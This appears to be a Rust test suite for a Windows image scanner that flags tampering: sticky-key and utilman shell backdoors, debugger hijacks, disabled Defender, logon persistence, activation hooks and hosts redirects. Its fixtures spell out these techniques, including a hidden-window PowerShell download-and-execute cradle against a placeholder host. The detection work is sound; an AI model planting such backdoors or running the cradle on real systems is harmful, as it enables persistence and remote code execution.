//! What modified images show, and what differs from a reference.

use sha1::Digest as _;
use wimproof_testkit::Entry;

use crate::{
    genuine::{
        CURRENT_VERSION, Windows, at, examine, findings, health, health_of, only, serious, set, wide,
        windows, write,
    },
    support::{Desk, Run, wimproof},
};

fn with(change: impl FnOnce(&mut Windows)) -> Run {
    let mut windows = windows();
    change(&mut windows);
    health_of(windows)
}

fn in_software(
    path: &str,
    value: impl FnOnce(wimproof_testkit::hive::Key) -> wimproof_testkit::hive::Key,
) -> Run {
    with(|windows| set(&mut windows.software, path, value))
}

fn in_system(
    path: &str,
    value: impl FnOnce(wimproof_testkit::hive::Key) -> wimproof_testkit::hive::Key,
) -> Run {
    with(|windows| {
        set(&mut windows.system, path, |mut key| {
            let changed = value(wimproof_testkit::hive::Key::new("x"));
            key.values.retain(|old| !changed.values.iter().any(|new| new.name == old.name));
            key.values.extend(changed.values);
            key
        });
    })
}

#[test]
fn a_shell_on_the_logon_screen_is_seen_from_the_metadata() {
    let desk = Desk::bare();
    let mut twin = windows();
    twin.file(r"Windows\System32\utilman.exe", b"MZ command line");
    write(&desk, "a.wim", twin);
    let run = health(&desk, &["--depth", "metadata", "a.wim"]).code(1);
    only(&run, "WP3200", "deny", &[r"\Windows\System32\utilman.exe", r"System32\cmd.exe"]);
}

#[test]
fn debuggers_are_seen_by_what_they_stand_for() {
    let options = |program: &str| format!(r"{CURRENT_VERSION}\Image File Execution Options\{program}");
    let run =
        in_software(&options("sethc.exe"), |key| key.sz("Debugger", r"C:\Windows\System32\cmd.exe")).code(1);
    only(&run, "WP3209", "deny", &["sethc.exe", r"C:\Windows\System32\cmd.exe"]);
    let run = in_software(&options("MsMpEng.exe"), |key| key.sz("Debugger", "nothing.exe")).code(0);
    only(&run, "WP3210", "warn", &["MsMpEng.exe", "nothing.exe"]);
    let run = in_software(&options("SppExtComObj.exe"), |key| key.sz("VerifierDlls", "hook.dll")).code(1);
    only(&run, "WP3207", "deny", &["SppExtComObj.exe", "hook.dll"]);
}

#[test]
fn hidden_tasks_and_odd_actions_are_seen() {
    let task = format!(
        r"{CURRENT_VERSION}\Schedule\TaskCache\Tree\Microsoft\Windows\Speech\SpeechModelDownloadTask"
    );
    let run =
        with(|windows| at(&mut windows.software, &task).values.retain(|value| value.name != "SD")).code(1);
    only(&run, "WP3211", "deny", &["SpeechModelDownloadTask", "(SD)"]);
    let run = with(|windows| {
        let key = at(&mut windows.software, &task);
        key.values.retain(|value| value.name != "Index");
        *key = key.clone().dword("Index", 0);
    })
    .code(1);
    only(&run, "WP3211", "deny", &["SpeechModelDownloadTask", "Index 0"]);
    let action = wide(
        "powershell.exe -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('http://x.example')\"",
    );
    let run = with(|windows| {
        let key =
            at(&mut windows.software, &format!(r"{CURRENT_VERSION}\Schedule\TaskCache\Tasks\{{4D595DA6}}"));
        key.values.clear();
        *key = key.clone().value("Actions", 3, &action);
    })
    .code(0);
    only(&run, "WP3212", "warn", &["SpeechModelDownloadTask", "DownloadString"]);
}

#[test]
fn services_and_protections_that_are_off_are_seen() {
    let run = in_system(r"ControlSet001\Services\WinDefend", |key| key.dword("Start", 4)).code(0);
    only(&run, "WP3213", "warn", &["WinDefend"]);
    let run = in_system(r"ControlSet001\Services\wuauserv", |key| key.dword("Start", 4)).code(0);
    only(&run, "WP3214", "warn", &["wuauserv"]);
    let run = in_system(r"Setup\LabConfig", |key| key.dword("BypassTPMCheck", 1)).code(0);
    only(&run, "WP3220", "warn", &["BypassTPMCheck"]);
    let run = in_system(r"ControlSet001\Control\SecurityProviders\WDigest", |key| {
        key.dword("UseLogonCredential", 1)
    })
    .code(0);
    only(&run, "WP3221", "warn", &["UseLogonCredential"]);
    let policy = r"Policies\Microsoft\Windows Defender";
    let run = in_software(policy, |key| key.dword("DisableAntiSpyware", 1)).code(0);
    only(&run, "WP3213", "warn", &["DisableAntiSpyware"]);
    let run =
        in_software(r"Microsoft\Windows\CurrentVersion\Policies\System", |key| key.dword("EnableLUA", 0))
            .code(0);
    only(&run, "WP3221", "warn", &["EnableLUA"]);
    // The control set in use counts, not another.
    let run = in_system(r"ControlSet002\Services\WinDefend", |key| key.dword("Start", 4)).code(0);
    assert_eq!(serious(&run), []);
}

#[test]
fn what_runs_at_logon_is_seen() {
    let run = in_software(r"Microsoft\Windows\CurrentVersion\Run", |key| key.sz("Helper", r"C:\helper.exe"))
        .code(0);
    only(&run, "WP3217", "info", &["Helper", r"C:\helper.exe"]);
    let winlogon = format!(r"{CURRENT_VERSION}\Winlogon");
    let run = with(|windows| {
        let key = at(&mut windows.software, &winlogon);
        key.values.retain(|value| value.name != "Userinit");
        *key = key.clone().sz("Userinit", r"C:\Windows\system32\userinit.exe,C:\x.exe");
    })
    .code(0);
    only(&run, "WP3218", "warn", &["Userinit", r"C:\x.exe"]);
    let run =
        in_software(&format!(r"{CURRENT_VERSION}\Windows"), |key| key.sz("AppInit_DLLs", "x.dll")).code(0);
    only(&run, "WP3219", "warn", &["AppInit_DLLs", "x.dll"]);
}

#[test]
fn servers_and_tools_for_activation_are_told_apart() {
    let path = format!(r"{CURRENT_VERSION}\SoftwareProtectionPlatform");
    let run = in_software(&path, |key| key.sz("KeyManagementServiceName", "kms.bank.example")).code(0);
    only(&run, "WP3208", "info", &["kms.bank.example"]);
    let run = in_software(&path, |key| key.sz("KeyManagementServiceName", "10.0.0.10")).code(1);
    only(&run, "WP3207", "deny", &["10.0.0.10"]);
    for file in [
        r"Windows\System32\SppExtComObjHook.dll",
        r"Program Files\Microsoft Office\root\vfs\System\sppc64.dll",
    ] {
        let run = with(|windows| windows.file(file, b"MZ hook")).code(1);
        only(&run, "WP3207", "deny", &[file]);
    }
    let run =
        in_software(r"Policies\Microsoft\Windows\WindowsUpdate", |key| key.sz("WUServer", "http://wsus"))
            .code(0);
    only(&run, "WP3215", "info", &["WUServer", "http://wsus"]);
    let run = in_software(r"Policies\Microsoft\Windows\WindowsUpdate\AU", |key| key.dword("NoAutoUpdate", 1))
        .code(0);
    only(&run, "WP3214", "warn", &["NoAutoUpdate"]);
}

#[test]
fn redirected_names_are_seen() {
    let hosts = r"Windows\System32\drivers\etc\hosts";
    let run =
        with(|windows| windows.file(hosts, b"127.0.0.1 localhost\r\n0.0.0.0 update.microsoft.com # no\r\n"))
            .code(0);
    only(&run, "WP3206", "warn", &["0.0.0.0 update.microsoft.com"]);
}

#[test]
fn root_certificates_that_windows_does_not_bring_along_are_seen() {
    let store = |pem: &str| {
        let der: Vec<u8> = {
            use base64::Engine as _;
            let body: String = pem.lines().filter(|line| !line.starts_with("-----")).collect();
            base64::engine::general_purpose::STANDARD.decode(body).expect("base64")
        };
        let head = [32_u32, 1, u32::try_from(der.len()).expect("short")].map(u32::to_le_bytes).concat();
        let blob = [&[3, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 7, 7][..], &head, &der].concat();
        // Under the name of a certificate of Microsoft: the bytes count.
        let path = r"Microsoft\SystemCertificates\ROOT\Certificates\3B1EFD3A66EA28B16697394703A72CA340A05BD5";
        in_software(path, |key| key.value("Blob", 3, &blob)).code(0)
    };
    let run = store(include_str!("catalogs/root.pem"));
    only(&run, "WP3216", "warn", &["CN=Test Root"]);
    let known = store(include_str!("../src/evidence/catalog/anchors/microsoft-root-2010.pem"));
    assert_eq!(serious(&known), []);
}

#[test]
fn files_known_from_malware_are_seen_by_their_hash() {
    let known =
        hex::decode("32c7b6629fabe6254431a558b57d30cd2f2d43d7").expect("a digest").try_into().expect("SHA-1");
    let mut windows = windows();
    // Named and not held: the hash is what counts.
    windows.root =
        windows.root.with_entries(r"Windows\Installer", &[Entry::declared("iscsicli.exe", known, 1000)]);
    let run = health_of(windows).code(1);
    let found = serious(&run);
    let told = found.iter().find(|(rule, ..)| rule == "WP3201").expect("it is told");
    assert!(told.1 == "deny" && told.2.contains(r"\Windows\Installer\iscsicli.exe"), "{told:?}");
}

#[test]
fn programs_that_take_the_name_of_one_of_windows_are_seen() {
    let named = |path: &str, bytes: &[u8]| with(|windows| windows.file(path, bytes)).code(0);
    for path in [
        r"Windows\Installer\cmd.exe",
        r"Windows\Temp\SETHC.EXE",
        r"Windows\System32\spool\drivers\cmd.exe",
        r"Windows\System32\zh-CN\cmd.exe",
        r"Windows\explorer\cmd.exe",
    ] {
        only(&named(path, b"MX another"), "WP3222", "warn", &[path, "System32\\", "sha1:"]);
    }
    for (path, bytes) in [
        // A copy of it.
        (r"Windows\Installer\cmd.exe", &b"MZ command line"[..]),
        // Where Windows keeps others.
        (r"Windows\SysWOW64\cmd.exe", b"MX another"),
        (r"Windows\servicing\LCU\x\cmd.exe", b"MX another"),
        (r"Windows\System32\Boot\cmd.exe", b"MX another"),
        // Not below the folder of Windows, of another name, or no program.
        (r"Program Files\Shell\cmd.exe", b"MX another"),
        (r"Windows\Installer\cmd2.exe", b"MX another"),
        (r"Windows\Installer\cmd.exe.txt", b"MX another"),
        (r"Windows\Installer\cmd.exe", b""),
    ] {
        assert_eq!(serious(&named(path, bytes)), [], "{path}");
    }
    // The 32-bit program of Windows, copied.
    let run = with(|windows| {
        windows.file(r"Windows\Temp\cmd.exe", b"MX 32 bits");
        windows.file(r"Windows\SysWOW64\cmd.exe", b"MX 32 bits");
    });
    assert_eq!(serious(&run.code(0)), []);
}

#[test]
fn many_of_one_kind_hide_no_other() {
    let run = with(|windows| {
        let run = at(&mut windows.software, r"Microsoft\Windows\CurrentVersion\Run");
        *run = (0..3000).fold(run.clone(), |run, number| run.sz(&format!("n{number}"), "x.exe"));
        windows.file(r"Windows\System32\SECOH-QAD.exe", b"MZ");
        set(&mut windows.system, r"Setup\LabConfig", |key| key.dword("BypassTPMCheck", 1));
    })
    .code(1);
    let rules: Vec<String> = serious(&run).into_iter().map(|(rule, ..)| rule).collect();
    assert_eq!(rules, ["WP3207", "WP3114", "WP3220"]);
}

const ANSWERS: &str = r#"<unattend xmlns="urn:schemas-microsoft-com:unattend"><settings pass="oobeSystem">
<component name="Microsoft-Windows-Shell-Setup"><AutoLogon><Password><Value>geheim-77</Value><PlainText>true</PlainText></Password></AutoLogon>
<FirstLogonCommands><SynchronousCommand><CommandLine>cmd /c start.cmd</CommandLine></SynchronousCommand></FirstLogonCommands>
</component></settings></unattend>"#;

#[test]
fn passwords_are_told_of_and_never_told() {
    let run = with(|windows| windows.file(r"Windows\Panther\unattend.xml", ANSWERS.as_bytes())).code(0);
    let rules: Vec<String> = findings(&run).into_iter().map(|(rule, ..)| rule).collect();
    for rule in ["WP3203", "WP3204", "WP3205"] {
        assert!(rules.contains(&rule.to_owned()), "{rule} in {rules:?}");
    }
    assert!(!run.out.contains("geheim"), "{}", run.out);
    let run = with(|windows| {
        windows.file(r"Windows\Panther\unattend.xml", &[&[0xFF, 0xFE][..], &wide(ANSWERS)].concat());
    });
    assert!(run.rules().contains(&"WP3204".to_owned()) && !run.out.contains("geheim"));
    // Setup itself deletes what it has used.
    for none in ["", "*SENSITIVE*DATA*DELETED*"] {
        let none = ANSWERS.replace("geheim-77", none);
        let run = with(|windows| windows.file(r"Windows\Panther\unattend.xml", none.as_bytes()));
        assert!(!run.rules().contains(&"WP3204".to_owned()));
    }
    let run =
        in_software(&format!(r"{CURRENT_VERSION}\Winlogon"), |key| key.sz("DefaultPassword", "geheim-78"))
            .code(0);
    only(&run, "WP3204", "warn", &["DefaultPassword"]);
    assert!(!run.out.contains("geheim"));
}

#[test]
fn a_site_allows_its_own_by_digest_and_reason() {
    let desk = Desk::bare();
    let (path, script) = (r"Windows\Setup\Scripts\SetupComplete.cmd", b"@echo off");
    let mut own = windows();
    own.file(path, script);
    write(&desk, "a.wim", own);
    let run = examine(&desk, &["a.wim"]).code(0);
    only(&run, "WP3202", "warn", &["SetupComplete.cmd", "sha1:"]);
    let digest = hex::encode(sha1::Sha1::digest(script));
    let unused = "0".repeat(40);
    desk.file(
        "allow.toml",
        format!(
            "[[allow]]\ndigest = \"sha1:{digest}\"\nreason = \"ours, CHG-7\"\n[[allow]]\ndigest = \"sha1:{unused}\"\nreason = \"gone\"\n"
        )
        .as_bytes(),
    );
    let run = examine(&desk, &["--allow", "allow.toml", "a.wim"]).code(0);
    assert_eq!(serious(&run), []);
    only(&run, "WP3202", "info", &["the site allows it: ours, CHG-7"]);
    only(&run, "WP3240", "info", &[&unused, "gone"]);
    desk.file("bad.toml", b"[[allow]]\ndigest = \"sha1:12\"\nreason = \"x\"\n");
    examine(&desk, &["--allow", "bad.toml", "a.wim"]).code(3);
}

#[test]
fn a_setting_that_is_allowed_allows_no_other_of_the_same_data() {
    let off = |windows: &mut Windows, name: &str| {
        set(&mut windows.software, r"Policies\Microsoft\Windows Defender", |key| key.dword(name, 1));
    };
    let desk = Desk::bare();
    let mut one = windows();
    off(&mut one, "DisableAntiSpyware");
    write(&desk, "one.wim", one);
    let found = examine(&desk, &["one.wim"]).code(0);
    let (_, _, message) = serious(&found).into_iter().find(|(rule, ..)| rule == "WP3213").expect("told");
    let at = message.find("sha256:").expect("a digest");
    let digest = &message[at..at + "sha256:".len() + 64];
    desk.file("allow.toml", format!("[[allow]]\ndigest = {digest:?}\nreason = \"ours\"\n").as_bytes());
    let allowed = examine(&desk, &["--allow", "allow.toml", "one.wim"]).code(0);
    assert_eq!(serious(&allowed), []);
    let mut two = windows();
    off(&mut two, "DisableAntiVirus");
    write(&desk, "two.wim", two);
    let other = examine(&desk, &["--allow", "allow.toml", "two.wim"]).code(0);
    only(&other, "WP3213", "warn", &["DisableAntiVirus"]);
}

const PROGRAMS: [&str; 6] = [
    r"Windows\Temp\InsPreConfig.exe",
    r"Windows\Temp\InsPostConfig.exe",
    r"Windows\Temp\UpgradeConfig.exe",
    r"Windows\Temp\UpgradeSchdTask.exe",
    r"Recovery\OEM\ResetPre.exe",
    r"Recovery\OEM\ResetPost.exe",
];

fn gold() -> Windows {
    let mut gold = windows();
    for program in PROGRAMS {
        gold.file(program, format!("MZ {program}").as_bytes());
    }
    gold
}

fn compared(change: impl FnOnce(&mut Windows)) -> (Desk, Run) {
    let desk = Desk::bare();
    write(&desk, "gold.wim", gold());
    let mut twin = gold();
    change(&mut twin);
    write(&desk, "twin.wim", twin);
    let run = examine(&desk, &["--reference", "gold.wim", "twin.wim"]);
    (desk, run)
}

#[test]
fn a_twin_that_is_one_raises_nothing() {
    let (desk, run) = compared(|_| {});
    assert_eq!(serious(&run.code(0)), []);
    desk.run(["diff", "gold.wim", "twin.wim"]).code(0);
}

#[test]
fn six_programs_swapped_in_place_are_named() {
    let (desk, run) = compared(|twin| {
        for program in PROGRAMS {
            twin.file(program, format!("MX {program}").as_bytes());
        }
    });
    let [health, reference] = ["health", "--reference"].map(Into::into);
    let people = wimproof([health, reference, desk.path("gold.wim"), desk.path("twin.wim")]).code(1).out;
    assert!(people.contains("advice: Do not deploy"), "{people}");
    let run = run.code(1);
    let found = serious(&run);
    assert_eq!(found.len(), 6, "{found:#?}");
    for program in PROGRAMS {
        let digests = ["MX", "MZ"].map(|begin| hex::encode(sha1::Sha1::digest(format!("{begin} {program}"))));
        let named = |(rule, severity, message): &(String, String, String)| {
            rule == "WP3230"
                && severity == "deny"
                && message.starts_with(&format!("\\{program} differs from gold.wim:1"))
                && digests.iter().all(|digest| message.contains(digest))
        };
        assert!(found.iter().any(named), "{program} in {found:#?}");
    }
    let diff = desk.run(["diff", "gold.wim", "twin.wim"]).code(1);
    assert!(PROGRAMS.iter().all(|program| diff.out.contains(program)), "{}", diff.out);
}

#[test]
fn one_value_of_the_registry_is_named() {
    let tasks = format!(r"{CURRENT_VERSION}\Schedule\TaskCache\Tasks\{{4D595DA6}}");
    let (desk, run) = compared(|twin| {
        let key = at(&mut twin.software, &tasks);
        key.values.clear();
        *key = key.clone().value("Actions", 3, &wide(r"C:\ProgramData\update.exe"));
    });
    let run = run.code(1);
    let found = serious(&run);
    let rules: Vec<&str> = found.iter().map(|(rule, ..)| rule.as_str()).collect();
    assert_eq!(rules, ["WP3233", "WP3234"], "{found:#?}");
    let message = &found[0].2;
    for words in
        [r"\Windows\System32\config\SOFTWARE", &tasks, "Actions", "update.exe", "SpeechModelDownload.exe"]
    {
        assert!(message.contains(words), "{words} in {message}");
    }
    let diff = desk.run(["diff", "gold.wim", "twin.wim", "--format", "json"]).code(1).json();
    let hive = &diff["hives"][0];
    assert_eq!(hive["path"], r"\Windows\System32\config\SOFTWARE");
    assert_eq!(hive["keys"].as_array().map(Vec::len), Some(1));
    assert_eq!(hive["keys"][0]["values"][0]["b"]["shown"], r"C:\ProgramData\update.exe");
    let text = desk.run(["diff", "gold.wim", "twin.wim"]).code(1).out;
    assert!(text.contains(&format!("hive \\Windows\\System32\\config\\SOFTWARE\n  ! {tasks}")), "{text}");
}

#[test]
fn a_shell_in_a_twin_is_named_by_both() {
    let (desk, run) = compared(|twin| twin.file(r"Windows\System32\utilman.exe", b"MZ command line"));
    let rules: Vec<String> = serious(&run.code(1)).into_iter().map(|(rule, ..)| rule).collect();
    assert_eq!(rules, ["WP3200", "WP3230"]);
    assert!(
        desk.run(["diff", "gold.wim", "twin.wim"]).code(1).out.contains(r"\Windows\System32\utilman.exe")
    );
}

#[test]
fn added_and_removed_programs_are_named() {
    let (_desk, run) = compared(|twin| {
        twin.file(r"Windows\Temp\more.ps1", b"more");
        twin.file(r"Windows\Temp\notes.txt", b"no program");
    });
    only(&run.code(1), "WP3231", "deny", &["more.ps1", "gold.wim:1"]);
    let desk = Desk::bare();
    let mut gold = gold();
    gold.file(r"Program Files\Agent\agent.exe", b"MZ");
    write(&desk, "gold.wim", gold);
    write(&desk, "twin.wim", windows());
    let run = examine(&desk, &["--reference", "gold.wim", "twin.wim"]).code(0);
    assert!(serious(&run).iter().all(|(rule, ..)| rule == "WP3232"));
    assert_eq!(serious(&run).len(), PROGRAMS.len() + 1);
}

#[test]
fn another_image_of_the_same_build_differs_less_gravely() {
    let (_desk, run) = compared(|twin| {
        twin.name = "another";
        twin.file(PROGRAMS[0], b"MZ another");
    });
    only(&run.code(0), "WP3230", "warn", &["InsPreConfig.exe"]);
}

#[test]
fn secrets_of_a_registry_differ_and_are_not_shown() {
    let winlogon = format!(r"{CURRENT_VERSION}\Winlogon");
    let (desk, run) =
        compared(|twin| set(&mut twin.software, &winlogon, |key| key.sz("DefaultPassword", "geheim-9")));
    assert!(run.out.contains("DefaultPassword") && !run.out.contains("geheim"), "{}", run.out);
    let diff = desk.run(["diff", "gold.wim", "twin.wim"]).code(1);
    assert!(diff.out.contains("DefaultPassword") && !diff.out.contains("geheim"), "{}", diff.out);
}
